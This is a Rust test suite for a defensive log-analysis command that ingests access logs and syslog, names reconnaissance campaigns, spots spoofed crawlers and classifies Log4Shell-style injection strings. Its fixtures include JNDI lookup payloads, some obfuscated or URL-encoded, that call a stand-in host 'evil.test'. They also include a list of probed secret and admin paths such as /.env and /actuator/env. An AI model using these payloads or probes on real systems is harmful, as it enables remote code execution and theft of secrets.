//! `relight watch`: logs in, campaigns out, and no word too many.

use std::fmt::Write as _;
use std::io::{BufRead as _, BufReader};
use std::process::Stdio;

use expect_test::expect;

use crate::place::Place;

/// Ordinary visitors, one who tries many doors of many products over weeks, and lines that are
/// none.
fn log() -> Vec<u8> {
    let mut log = String::new();
    let line = |log: &mut String, source: &str, day: usize, path: &str, status: u16| {
        let _ = writeln!(
            log,
            "{source} - - [{day:02}/Nov/2021:10:00:00 +0000] \"GET {path} HTTP/1.1\" {status} 12 \
             \"-\" \"Mozilla/5.0\""
        );
    };
    for day in 1..=28 {
        line(&mut log, "192.0.2.10", day, "/", 200);
    }
    let doors = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/owa/",
        "/autodiscover/autodiscover.xml",
        "/remote/login",
        "/solr/",
        "/manager/html",
        "/jenkins/",
        "/actuator/env",
        "/_cat/indices",
        "/vpn/index.html",
        "/server-status",
    ];
    for (at, door) in doors.into_iter().enumerate() {
        line(&mut log, "198.51.100.7", 1 + 2 * at, door, 404);
    }
    let mut bytes = log.into_bytes();
    bytes.extend(b"\x00\x01\x02\xff\xfe binary\n");
    bytes
        .extend(b"198.51.100.8 - - [01/Nov/2021:10:00:00 +0000] \"GET /\x1b[2J HTTP/1.1\" 200 1\n");
    bytes
}

fn watched() -> (Place, String) {
    let place = Place::with_sites();
    place.write("access.log", log());
    let arguments = ["watch", "ingest", "access.log", "--org", "Santé Nord", "--site", "san-001"];
    let text = place.run(&arguments).text();
    (place, text)
}

#[test]
fn lines_that_are_none_are_told_and_cost_no_other() {
    let (place, text) = watched();
    expect![[r#"
        access.log: 44 lines, 43 events, 1 refused; 15 older than the line before; 14 later than 48 hours (combined, common)
        Next: relight watch campaigns
        --- stderr
        warning: access.log:43: 1 line: does not start with an address
        hint: the other lines were read
        --- status 0
    "#]]
    .assert_eq(&text);
    let again = ["watch", "ingest", "access.log", "--org", "Santé Nord", "--site", "san-001"];
    let again = place.expect(0, &[&again[..], &["--lang", "fr"]].concat());
    assert!(again.stdout.contains("déjà lu, rien n’a changé"), "{}", again.text());
    place.expect(1, &["watch", "ingest", "nowhere.log", "--org", "Santé Nord"]);
    expect![[r#"
        --- stderr
        error: there is no organisation “Nobody” in the register
        hint: known organisations: Santé Nord, Ville de X
        --- status 1
    "#]]
    .assert_eq(&place.run(&["watch", "ingest", "access.log", "--org", "Nobody"]).text());
}

/// Goal: bad input costs itself alone, and is told. Method: a line that is good between two of each
/// kind that is not: a line of 1 MiB of nothing and one that is a request, zeros, bytes that are no
/// UTF-8, a program. Then the same log packed and cut.
#[test]
fn bad_input_costs_itself_alone_and_is_told() {
    let good = |second: u32, path: &str| {
        format!(
            "192.0.2.1 - - [10/Dec/2021:02:05:{second:02} +0000] \"GET {path} HTTP/1.1\" 200 9 \
             \"-\" \"-\"\n"
        )
    };
    let long = format!("{}\n", "a".repeat(1 << 20));
    let program: Vec<u8> =
        (0..65_536_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let mut log = Vec::new();
    let bad: [&[u8]; 5] = [
        long.as_bytes(),
        &[0; 4_096],
        b"\xff\xfe\xc3\x28 no text",
        b"192.0.2.9 - - [10/Dec/2021:02:05:58 +0000] \"GET /\x00\xff HTTP/1.1\" 200 9 \"-\" \"-\"",
        &program,
    ];
    for (second, bad) in (0..).zip(bad) {
        log.extend(good(second, "/").into_bytes());
        log.extend(bad);
        log.push(b'\n');
    }
    log.extend(good(30, &format!("/{}", "b".repeat(1 << 20))).into_bytes());
    log.extend(good(31, "/last").into_bytes());
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::none());
    std::io::Write::write_all(&mut encoder, &log).unwrap();
    let packed = encoder.finish().unwrap();
    let place = Place::with_sites();
    place.write("bad.log", &log);
    place.write("cut.gz", &packed[..packed.len() - 600_000]);
    let ingest = |file: &str| {
        let arguments = ["watch", "ingest", file, "--org", "Santé Nord", "--site", "san-001"];
        place.run(&arguments).text()
    };
    expect![[r#"
        bad.log: 269 lines, 7 events, 261 refused; 2 older than the line before; 71 read twice (combined)
        Next: relight watch campaigns
        --- stderr
        warning: bad.log:7: 257 lines: does not start with an address
        hint: the other lines were read
        warning: bad.log:2: 3 lines: too short for a log line
        hint: the other lines were read
        warning: bad.log:268: 1 line: quotation mark that is not closed
        hint: the other lines were read
        warning: bad.log: more than one line in ten is of no known format: 261 of 269
        hint: `relight watch parse FILE` shows each with its reason; `--format NAME` names the format
        warning: bad.log: 2 lines: longer than the limit, cut
        hint: its beginning was read
        --- status 0
    "#]]
    .assert_eq(&ingest("bad.log"));
    expect![[r#"
        Next: relight watch campaigns
        --- stderr
        error: cannot read cut.gz
          technical detail: reading cut.gz: data ends too early
        hint: check that the path is right and that you may read it
        --- status 1
    "#]]
    .assert_eq(&ingest("cut.gz"));
}

/// Below signs of success the fixed denial is the only sentence that may use the word.
#[test]
fn a_sweep_is_named_and_nobody_is_called_compromised() {
    let (place, _) = watched();
    expect![[r#"
        C-E6W0R5  reconnaissance  27 days, 1 organisation, 1 site, 1 address  confidence 0.91
          198.51.100.7  2021-11-01T10:00:00Z
          Reconnaissance is not an indication of compromise.
        1 campaign
        Next: relight watch explain C-E6W0R5
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&["watch", "campaigns"]).text());
    expect![[r#"
        C-E6W0R5  reconnaissance  27 jours, 1 organisme, 1 site, 1 adresse  confiance 0,91
          198.51.100.7  2021-11-01T10:00:00Z
          Une reconnaissance n’est pas un signe de compromission.
        1 campagne
        Ensuite : relight watch explain C-E6W0R5
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&["watch", "campaigns", "--lang", "fr"]).text());
    let document = place.expect(0, &["watch", "campaigns", "--json"]).json();
    assert_eq!(document["campaigns"][0]["sources"], serde_json::json!(["198.51.100.7"]));
    assert_eq!(document["campaigns"][0]["severity"], "S1");
    let id = place.campaign();
    for (lang, denial) in [
        ("en", "Reconnaissance is not an indication of compromise."),
        ("fr", "Une reconnaissance n’est pas un signe de compromission."),
    ] {
        let told = place.expect(0, &["watch", "explain", &id.to_lowercase(), "--lang", lang]);
        let told = told.stdout;
        assert_eq!(told.to_lowercase().matches("comprom").count(), 1, "{told}");
        assert!(told.contains(denial), "{told}");
        assert!(told.contains("198.51.100.7"), "{told}");
        // Who was asked, and for what, is called as people call it.
        let door =
            if lang == "en" { "Login page of WordPress" } else { "Page de connexion de WordPress" };
        let contact = told.lines().find(|line| line.contains("/wp-login.php"));
        let contact = contact.unwrap_or_else(|| panic!("{told}"));
        assert!(contact.contains("  Santé Nord  san-00"), "{contact}");
        assert!(contact.ends_with(&format!("  404  /wp-login.php  ({door})")), "{contact}");
    }
    let why = place.expect(0, &["watch", "explain", &id, "--json"]).json();
    assert!(why["likelihood"].as_f64() > why["threshold"].as_f64());
    place.expect(1, &["watch", "explain", "C-000000"]);
}

/// Scanners on the operator's own list are told apart and not dropped; a line that is none costs
/// no other.
#[test]
fn scanners_that_mean_well_are_put_apart_by_name() {
    let (place, _) = watched();
    let list = "research,Census Example,198.51.100.0/24\nfriend,x,192.0.2.1\n";
    place.write("data/known-scanners.csv", list);
    let told = place.expect(0, &["watch", "campaigns", "--json"]);
    let document = told.json();
    assert_eq!(document["campaigns"][0]["severity"], "S0");
    assert_eq!(document["campaigns"][0]["known"], serde_json::json!(["research: Census Example"]));
    assert!(told.stderr.contains("known-scanners.csv:2"), "{}", told.text());
    let told = place.expect(0, &["watch", "explain", &place.campaign(), "--lang", "fr"]);
    assert!(told.stdout.contains("projet de recherche"), "{}", told.text());
}

/// Trap: a claimed crawler. The user agent comes from the log, the addresses from the list.
#[test]
fn a_crawler_from_a_strange_address_is_told() {
    let place = Place::with_sites();
    let mut log = String::new();
    for (day, path) in (3..).zip(["/.env", "/wp-login.php", "/.git/config", "/solr/admin/cores"]) {
        for host in ["san1.example", "san2.example"] {
            log.push_str(&format!(
                "{host}:443 198.51.100.7 - - [{day:02}/Nov/2025:10:00:00 +0000] \"GET {path} \
                 HTTP/1.1\" 404 9 \"-\" \"Mozilla/5.0 (compatible; Examplebot/2.1)\"\n"
            ));
        }
    }
    place.write("access.log", log);
    place.expect(0, &["watch", "ingest", "access.log", "--org", "Santé Nord"]);
    let spoofed = |network: &str| {
        place.write("data/known-scanners.csv", format!("crawler,Examplebot,{network}\n"));
        let document = place.expect(0, &["watch", "campaigns", "--json"]).json();
        let campaign = &document["campaigns"][0];
        (campaign["spoofed"].clone(), campaign["known"].clone(), campaign["severity"].clone())
    };
    let json = |text: &[&str]| serde_json::json!(text);
    let strange = spoofed("192.0.2.0/24");
    assert_eq!((strange.0, strange.1), (json(&["Examplebot"]), json(&[])));
    assert_ne!(strange.2, "S0");
    let told = place.expect(0, &["watch", "explain", &place.campaign(), "--lang", "fr"]);
    assert!(told.stdout.contains("Elle se dit Examplebot"), "{}", told.text());
    let own = spoofed("198.51.100.0/24");
    assert_eq!(own, (json(&[]), json(&["crawler: Examplebot"]), "S0".into()));
}

/// Payloads in plain and wrapped spelling, in a log and alone, and texts that only look like it.
const TEXTS: &str = "\
192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 9 \
\"-\" \"%24%7Bjndi:ldap://Evil.test:1389/a%7D\"\n\
${${lower:j}ndi:rmi://evil.test/x}\n\
$${jndi:ldap://evil.test/a}\n\
${jndi:java:comp/env/x}\n\
just ${HOME} and jndi:ldap\n";

#[test]
fn each_line_gets_its_verdict() {
    let place = Place::new();
    place.write("texts", TEXTS);
    let told = place.expect(0, &["watch", "decode", "texts", "--text"]);
    expect![[r#"
        line 1: would have worked, asks another machine (user-agent)
          would have asked ldap://evil.test:1389
            %24%7Bjndi:ldap://Evil.test:1389/a%7D
            ${jndi:ldap://Evil.test:1389/a}
        line 2: would have worked, asks another machine (line)
          would have asked rmi://evil.test
            ${${lower:j}ndi:rmi://evil.test/x}
        line 3: attempt that could not work: escaped by a dollar sign (line)
          would have asked ldap://evil.test
            $${jndi:ldap://evil.test/a}
        line 4: asks for a name inside the application (line)
            ${jndi:java:comp/env/x}
        line 5: harmless
        --- stderr
        5 lines, 3 effective, 1 attempt
        --- status 0
    "#]]
    .assert_eq(&told.text());
    let told = place.expect(0, &["watch", "decode", "texts", "--text", "--lang", "fr"]);
    assert!(told.stdout.contains("neutralisée par un dollar"), "{}", told.text());
    assert_eq!(told.stderr, "5 lignes, 3 efficaces, 1 tentative\n");
}

#[test]
fn one_document_a_line_with_or_without_the_option() {
    let place = Place::new();
    let told = place.feed(&["watch", "decode"], TEXTS.as_bytes());
    assert_eq!(told.stdout, place.feed(&["watch", "decode", "--json"], TEXTS.as_bytes()).stdout);
    let rows: Vec<serde_json::Value> =
        told.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let verdicts: Vec<_> = rows.iter().map(|row| row["verdict"].as_str().unwrap()).collect();
    assert_eq!(verdicts, ["effective", "effective", "attempt", "effective", "benign"]);
    assert_eq!(rows[0]["schema"], "relight.decode/1");
    assert_eq!(rows[0]["callback"]["host"], "evil.test");
    assert_eq!(rows[0]["callback"]["port"], 1389);
    assert_eq!(rows[0]["format"], "combined");
    assert_eq!(rows[2]["detail"], "escaped");
    assert_eq!(rows[3]["callback"], serde_json::Value::Null);
    let told = place.feed(&["watch", "decode", "--attempts"], TEXTS.as_bytes());
    assert_eq!(told.stdout.lines().count(), 4, "{}", told.stdout);
    assert_eq!(told.stderr, "5 lines, 3 effective, 1 attempt\n");
}

/// Goal: what is passed over in blocks changes no answer. Method: a log of several blocks, with
/// attempts on its first and last line, at the ends of blocks and between bytes that are not UTF-8.
#[test]
fn attempts_alone_are_those_of_the_whole_log() {
    let place = Place::new();
    let mut log = b"${jndi:ldap://x/first}\n".to_vec();
    for number in 0..9_000_u32 {
        match number {
            n if n % 1_500 == 7 => log.extend(format!("%24%7Bjndi:ldap://x/{n}%7D\n").bytes()),
            n if n % 1_500 == 8 => log.extend(b"caf\xe9 Basic\n"),
            n => log.extend(format!("GET /articles/{n}?q=caf%C3%A9&n={n} Mac OS X\r\n").bytes()),
        }
    }
    log.extend(b"${jndi:ldap://x/last}");
    assert!(log.len() > 300_000, "{}", log.len());
    place.write("log", log);
    let rows = |arguments: &[&str]| {
        let told = place.expect(0, arguments);
        let rows: Vec<String> = told.stdout.lines().map(str::to_owned).collect();
        (rows, told.stderr)
    };
    let (mut all, summary) = rows(&["watch", "decode", "log"]);
    all.retain(|row| !row.contains(r#""verdict":"benign""#));
    assert_eq!(all.len(), 8);
    assert!(all[7].contains(r#""line":9002,"#), "{}", all[7]);
    assert_eq!(rows(&["watch", "decode", "--attempts", "log"]), (all, summary));
}

/// The message itself is not decoded; a line of the log is.
#[test]
fn exact_means_as_the_library_is_given_it() {
    let place = Place::new();
    let text = b"%24{jndi:ldap://x/a}\n${jndi:ldap://x/\\x41}\n";
    let verdict = |arguments: &[&str]| -> Vec<String> {
        let told = place.feed(arguments, text).stdout;
        let rows = told.lines().map(|line| serde_json::from_str(line).unwrap());
        rows.map(|row: serde_json::Value| format!("{} {}", row["verdict"], row["key"])).collect()
    };
    let decoded = verdict(&["watch", "decode"]);
    assert_eq!(decoded[0], r#""effective" "ldap://x/a""#);
    let exact = verdict(&["watch", "decode", "--exact"]);
    assert_eq!(exact, [r#""benign" null"#, r#""effective" "ldap://x/\\x41""#]);
}

#[test]
fn hostile_lines_are_answered_too() {
    let place = Place::new();
    let mut input = b"\0\xff${jndi:ldap://x/\xfe\0}\n\n".to_vec();
    input.extend(vec![b'a'; 1 << 20]);
    input.extend(b" ${jndi:ldap://x/far}\n");
    input.extend(vec![b'a'; (2 << 20) + 1]);
    input.extend(b"\nlast");
    let told = place.feed(&["watch", "decode"], &input);
    assert_eq!(told.status, 0, "{}", told.stderr);
    let rows: Vec<serde_json::Value> =
        told.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let seen: Vec<_> = rows.iter().map(|row| row["verdict"].as_str().unwrap()).collect();
    assert_eq!(seen, ["effective", "benign", "effective", "attempt", "benign"]);
    assert_eq!((&rows[3]["detail"], &rows[3]["cut"]), (&"over-limit".into(), &true.into()));
    let told = place.run(&["watch", "decode", "nowhere"]);
    assert_eq!(told.status, 1);
}

/// Four products in one stream, a forged and a true forwarded header, and what is no line.
const MIXED: &str = include_str!("transcripts/watch-mixed.log");

#[test]
fn each_line_is_an_event_or_says_why_not() {
    let place = Place::new();
    let arguments = ["watch", "parse", "--trust", "203.0.113.0/24"];
    let told = place.feed(&arguments, MIXED.as_bytes());
    let rows: Vec<serde_json::Value> =
        told.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let text = |row: &serde_json::Value, key: &str| row[key].as_str().map(str::to_owned);
    let formats: Vec<_> = rows.iter().filter_map(|row| text(row, "format")).collect();
    assert_eq!(formats, ["combined", "asa", "nginx_json", "iis_w3c"]);
    let sources: Vec<_> = rows.iter().filter_map(|row| text(row, "source")).collect();
    assert_eq!(sources, ["192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4"]);
    assert_eq!(rows[0]["attempt"]["verdict"], "effective/remote");
    assert_eq!(rows[0]["at"], "2021-12-10T02:05:58Z");
    assert_eq!((&rows[1]["outcome"], &rows[1]["port"]), (&"dropped".into(), &22.into()));
    assert_eq!((&rows[2]["path"], &rows[2]["peer"]), (&"/é".into(), &"203.0.113.7".into()));
    assert_eq!(rows[2]["unknown_fields"], 1);
    let refused: Vec<_> = rows.iter().filter_map(|row| text(row, "refused")).collect();
    assert_eq!(refused.len(), 2, "{}", told.stdout);
    assert_eq!((&rows[4]["line"], &rows[5]["line"]), (&6.into(), &7.into()));
    assert_eq!(
        told.stderr,
        "7 lines, 4 events, 2 refused; 2 older than the line before \
         (asa, combined, iis_w3c, nginx_json)\n"
    );
}

#[test]
fn a_named_format_is_the_only_one() {
    let place = Place::new();
    let told = place.feed(&["watch", "parse", "--format", "common"], MIXED.as_bytes());
    assert_eq!(told.status, 1, "not one line: {}", told.text());
    assert!(told.stdout.contains("\"reason\":\"of another format\""), "{}", told.text());
    let told = place.feed(&["watch", "parse", "--format", "nginx"], b"");
    assert_eq!(told.status, 2);
    assert!(told.stderr.contains("there is no log format “nginx”"), "{}", told.text());
    assert!(told.stderr.contains("auto, or one of: asa, aws_alb,"), "{}", told.text());
    let told = place.feed(&["watch", "parse", "--trust", "proxy", "--lang", "fr"], b"");
    assert_eq!(told.status, 2);
    assert!(told.stderr.contains("n’est ni une adresse"), "{}", told.text());
}

/// A clock five hours behind wrote the first line; the second one says its own zone.
#[test]
fn a_time_without_zone_is_of_the_clock_that_somebody_names() {
    let log = "Dec  9 21:05:58 fw1 kernel: [1.0] DROP IN=eth0 OUT= SRC=192.0.2.1 DST=198.51.100.9 \
               LEN=40 PROTO=TCP SPT=40000 DPT=22\n\
               192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    let place = Place::new();
    let times = |arguments: &[&str]| -> Vec<String> {
        let told = place.feed(&[&["watch", "parse"], arguments].concat(), log.as_bytes());
        let rows = told.stdout.lines().map(|line| serde_json::from_str(line).unwrap());
        rows.map(|row: serde_json::Value| row["at"].as_str().unwrap()[10..].to_owned()).collect()
    };
    assert_eq!(times(&[]), ["T21:05:58Z", "T02:05:58Z"]);
    assert_eq!(times(&["--zone", "-05:00"]), ["T02:05:58Z", "T02:05:58Z"]);
    let told = place.feed(&["watch", "parse", "--zone", "Nowhere/Else"], b"");
    assert_eq!(told.status, 2);
    assert!(told.stderr.contains("“Nowhere/Else” is no zone"), "{}", told.text());
    assert!(told.stderr.contains("America/Montreal"), "{}", told.text());
}

#[test]
fn damaged_packed_logs_give_what_comes_before_the_damage() {
    let place = Place::new();
    let line = "192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 9 \"-\" \"-\"\n";
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::none());
    std::io::Write::write_all(&mut encoder, line.repeat(2_000).as_bytes()).unwrap();
    let whole = encoder.finish().unwrap();
    place.write("whole.gz", &whole);
    place.write("cut.gz", &whole[..whole.len() / 2]);
    let told = place.expect(0, &["watch", "parse", "whole.gz"]);
    assert_eq!(told.stdout.lines().count(), 2_000);
    let told = place.expect(1, &["watch", "parse", "cut.gz"]);
    assert!(told.stdout.lines().count() > 500, "{}", told.stdout.lines().count());
    assert!(told.stderr.contains("data ends too early"), "{}", told.stderr);
}

/// A log that is followed is read as it grows, and a program that is killed loses nothing.
#[test]
fn a_killed_follower_is_continued_where_it_was() {
    let place = Place::with_sites();
    place.write("logs/access.log", log());
    let options = ["watch", "ingest", "logs", "--org", "Santé Nord"];
    let mut command = place.command(&[&options[..], &["--follow"]].concat(), &[]);
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(line.starts_with("logs/access.log: 44 lines, 43 events, 1 refused"), "{line}");
    let row = |name: &str| {
        let told = place.expect(0, &[&options[..], &["--json"]].concat()).json();
        let logs = told["logs"].as_array().unwrap().clone();
        logs.into_iter().find(|log| log["file"] == name).unwrap()
    };
    assert_eq!(row("logs/access.log")["lines"], 0);
    let rotated = place.path("logs/access.log.1");
    std::fs::rename(place.path("logs/access.log"), rotated).unwrap();
    place.write("logs/access.log", include_str!("transcripts/watch-mixed.log"));
    assert_eq!(row("logs/access.log.1")["lines"], 0, "renamed, and known");
    place.write(
        "logs/more.log",
        "192.0.2.1 - - [10/Dec/2021:02:05:58 +0000] \"GET / HTTP/1.1\" 200 9\n",
    );
    let row = row("logs/more.log");
    assert_eq!((&row["events"], &row["formats"]["common"]), (&1.into(), &1.into()));
}

/// The next line that begins with this.
fn line_with(lines: &mut impl Iterator<Item = std::io::Result<String>>, start: &str) -> String {
    lines.map(Result::unwrap).find(|line| line.starts_with(start)).expect(start)
}

/// Syslog over the wire is in the windows, and a program that is ended in order tells what it took.
#[test]
fn received_lines_are_read_and_counted() {
    let place = Place::with_sites();
    let options = ["watch", "ingest", "--org", "Santé Nord"];
    let listen = ["--syslog-tcp", "127.0.0.1:0", "--syslog-udp", "127.0.0.1:0"];
    let mut command = place.command(&[&options[..], &listen].concat(), &[]);
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let udp = line_with(&mut lines, "Listening: syslog-udp on ");
    let tcp = line_with(&mut lines, "Listening: syslog-tcp on ");
    let address = |line: &str| line.rsplit(' ').next().unwrap().to_owned();
    let event = |number: u32| {
        format!(
            "<134>Nov 28 10:00:{number:02} host nginx: 198.51.100.7 - - \
             [28/Nov/2025:10:00:{number:02} +0000] \"GET /owa/ HTTP/1.1\" 404 1 \"-\" \"x\""
        )
    };
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.send_to(event(1).as_bytes(), address(&udp)).unwrap();
    let mut stream = std::net::TcpStream::connect(address(&tcp)).unwrap();
    let framed = format!("{}\n{} {}", event(2), event(3).len(), event(3));
    std::io::Write::write_all(&mut stream, framed.as_bytes()).unwrap();
    drop(stream);
    line_with(&mut lines, "3 lines received, 0 lost");
    let pid = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
    let rest: Vec<String> = lines.map(Result::unwrap).collect();
    assert!(child.wait().unwrap().success(), "{rest:?}");
    let spool = place.path("data/spool/org-1");
    let left: Vec<_> = std::fs::read_dir(&spool).unwrap().collect();
    assert_eq!(left.len(), 1, "the file that is written stays");
    let again = place.expect(0, &[&options[..], &["data/spool/org-1", "--json"]].concat()).json();
    assert_eq!(again["logs"][0]["events"], 0, "each line was read once: {again}");
}

#[test]
fn other_machines_are_let_in_only_on_request() {
    let place = Place::with_sites();
    let listen = ["watch", "ingest", "--org", "Santé Nord", "--syslog-udp", "0.0.0.0:0"];
    expect![[r#"
        --- stderr
        error: 0.0.0.0:0 can be reached from other machines
        hint: add --beyond-loopback if that is what you want, and let only your own senders in
        --- status 2
    "#]]
    .assert_eq(&place.run(&listen).text());
    expect![[r#"
        --- stderr
        erreur : 0.0.0.0:0 est joignable depuis d’autres machines
        conseil : ajoutez --beyond-loopback si c’est voulu, et ne laissez entrer que vos propres émetteurs
        --- status 2
    "#]]
    .assert_eq(&place.run(&[&listen[..], &["--lang", "fr"]].concat()).text());
    // Who lets others in may still not mean that everybody on the way reads and writes.
    let open = [&listen[..], &["--beyond-loopback"]].concat();
    expect![[r#"
        --- stderr
        error: 0.0.0.0:0 can be reached from other machines, and speaks no TLS
        hint: let a proxy that speaks TLS stand before it (logs: --syslog-tls), or add --unencrypted if whoever is on the way may read and change what is said
        --- status 2
    "#]]
    .assert_eq(&place.run(&open).text());
    for command in [&["serve", "--public-listen"][..], &["public", "serve", "--listen"]] {
        let told = place.run(&[command, &["0.0.0.0:0", "--lang", "fr"]].concat());
        assert_eq!(told.status, 2, "{}", told.text());
        assert!(told.stderr.contains("ne parle pas TLS"), "{}", told.text());
    }
    let nobody = ["serve", "--flows", "127.0.0.1:0", "--listen", "127.0.0.1:0"];
    let told = place.run(&[&nobody[..], &["--public-listen", "127.0.0.1:0"]].concat());
    assert_eq!(told.status, 2);
    assert!(told.stderr.contains("add --org NAME"), "{}", told.text());
    place.expect(2, &["watch", "ingest", "--org", "Santé Nord"]);
}

/// Made-up logs go in as real ones do, and the truth beside them says who is who.
#[test]
fn simulated_logs_are_read_and_the_truth_is_beside_them() {
    let place = Place::new();
    let simulate = |folder: &str, lang: &str| {
        let options = ["--seed", "7", "--days", "10", "--organisations", "3", "--lang", lang];
        place.expect(0, &[&["watch", "simulate", folder][..], &options].concat())
    };
    let told = simulate("made", "fr");
    assert!(
        told.stdout.contains("lignes dans 6 journaux, la vérité dans truth.json"),
        "{}",
        told.text()
    );
    simulate("again", "en");
    let read = |name: &str| std::fs::read_to_string(place.path(name)).unwrap();
    assert_eq!(read("made/truth.json"), read("again/truth.json"));
    let truth: serde_json::Value = serde_json::from_str(&read("made/truth.json")).unwrap();
    assert_eq!(truth["schema"], "relight.truth/1");
    let logs = truth["logs"].as_array().unwrap();
    let formats: std::collections::BTreeSet<_> =
        logs.iter().map(|log| log["format"].to_string()).collect();
    assert_eq!(formats.len(), 6);
    assert!(truth["slow_actor"]["contacts"].as_array().unwrap().len() >= 10);
    place.expect(0, &["sites", "import", "made/sites.csv"]);
    for organisation in ["org-000", "org-001", "org-002"] {
        let folder = format!("made/logs/{organisation}");
        let told = place.expect(0, &["watch", "ingest", &folder, "--org", organisation, "--json"]);
        let logs = told.json()["logs"].as_array().unwrap().clone();
        assert!(logs.iter().all(|log| log["refused"] == serde_json::json!([])), "{logs:?}");
    }
    let found = place.expect(0, &["watch", "campaigns", "--json"]).stdout;
    assert!(found.contains(truth["exploit_attempts"]["sources"][0].as_str().unwrap()), "{found}");
    place.expect(2, &["watch", "simulate", "made"]);
}
